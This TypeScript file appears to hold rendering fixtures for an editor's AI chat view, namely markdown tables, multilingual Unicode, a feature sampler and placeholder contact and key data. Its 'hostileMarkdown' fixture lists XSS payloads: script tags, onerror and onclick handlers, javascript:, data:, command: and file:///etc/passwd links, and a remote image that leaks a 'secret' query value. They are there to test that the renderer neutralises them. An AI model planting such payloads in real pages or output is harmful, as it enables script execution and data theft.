export const someTable = `Here is how the ways to call a model compare.

| Way | Streams | Validates input | Good for |
| --- | :---: | :---: | --- |
| \`Converse\` | no | yes | short answers, batch jobs |
| \`ConverseStream\` | **yes** | yes | chat, anything that a person waits for |
| \`InvokeModel\` | no | no | fields that only one provider has |
| \`CountTokens\` | no | yes | knowing the size before paying for it |

In an editor, \`ConverseStream\` is the usual choice.
`;

export const unicodeText = `Text in many scripts, to see that nothing breaks:

- Emoji: 👍🏽 👩‍👩‍👧‍👦 🏳️‍🌈 🇯🇵 and a flag again: 🇪🇺
- Combining: é (e + ◌́), ñ, क्षि, ก็
- العربية: مرحبا بالعالم، هذا نص من اليمين إلى اليسار
- עברית: שלום עולם
- 日本語: こんにちは、世界。中文：你好，世界。한국어: 안녕하세요
- Mathematical: ∑ᵢ xᵢ² ≤ ∞, 𝒳 ∈ ℝⁿ
- Mixed: the word \`שלום\` in the middle of a line, then on in English.

\`\`\`python
greeting = "héllo wörld 👋"  # 日本語のコメント
\`\`\`
`;

/** Everything that must be shown inert: none of it may run, load or navigate. */
export const hostileMarkdown = `This answer tries what an answer must not be able to do.

<script>document.body.dataset.pwned = 'script';</script>
<img src="x" onerror="document.body.dataset.pwned = 'onerror'">
<iframe src="https://example.com/frame"></iframe>
<a href="javascript:document.body.dataset.pwned='raw-link'">a raw link</a>
<style>body { display: none }</style>

A [script link](javascript:document.body.dataset.pwned='link') and a [data link](data:text/html,<script>alert(1)</script>),
a [command link](command:workbench.action.terminal.new), a [file link](file:///etc/passwd), and an
[honest link](https://docs.aws.amazon.com/bedrock/).

![a remote image](https://example.com/pixel.png?leak=secret)
![a script image](javascript:document.body.dataset.pwned='image')

<div onclick="document.body.dataset.pwned='click'">A **div** with a handler</div>

\`<b>code stays code</b>\`

| <b>a</b> | [x](javascript:alert(1)) |
| --- | --- |
| <img src=x onerror=alert(1)> | ok |
`;

export const everything = `# Everything at once

A paragraph with **bold**, *italic*, ~~struck~~, \`code\`, a [link](https://docs.aws.amazon.com/bedrock/) and snake_case_names.

## A list

1. First
   - nested
   - nested too
2. Second
   - [x] done
   - [ ] open

> A quotation
> of two lines.

## A table

| Left | Centre | Right |
| :--- | :---: | ---: |
| a | b | 1 |
| \`c\` | **d** | 20 |

## Code

\`\`\`ts
export async function* lines(input: AsyncIterable<string>): AsyncGenerator<string> {
  let rest = '';
  for await (const chunk of input) {
    const parts = (rest + chunk).split('\\n');
    rest = parts.pop() ?? '';
    yield* parts;
  }
  if (rest !== '') yield rest;
}
\`\`\`

\`\`\`json
{ "maxTokens": 512, "stopSequences": [] }
\`\`\`

---

And that was everything.
`;

export const contactData = `The people on call this week:

| Who | Mail | Phone |
| --- | --- | --- |
| Ada | ada@example.com | +1 206 555 0100 |
| Grace | grace@example.com | (206) 555-0142 |

The gateway is at 192.0.2.17, and the ticket is ACME-4711.
`;

/** AWS's own example of an access key, from its documentation. */
export const secretData = 'The access key in that file is AKIAIOSFODNN7EXAMPLE. It should not be there.';
